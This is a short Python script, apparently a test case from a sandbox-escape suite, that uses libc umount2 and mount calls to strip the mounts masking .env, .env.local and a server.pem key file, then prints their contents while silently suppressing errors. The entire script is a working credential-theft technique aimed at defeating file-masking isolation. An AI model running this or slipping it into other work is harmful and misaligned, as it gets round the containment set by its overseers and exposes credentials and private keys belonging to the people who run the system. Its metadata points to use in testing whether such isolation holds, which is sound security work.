"""Unmounts whatever covers a hidden file and reads it.

family: kernel
judge: loot env-file
trace: umount
"""

import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
hidden = (".env", "packages/api/.env.local", "deploy/server.pem")
for path in hidden:
    libc.umount2(os.path.abspath(path).encode(), 2)
    libc.mount(b"none", os.path.abspath(path).encode(), None, 0x1000 | 0x20, None)
for path in hidden:
    with contextlib.suppress(OSError), open(path) as file:
        print(file.read())
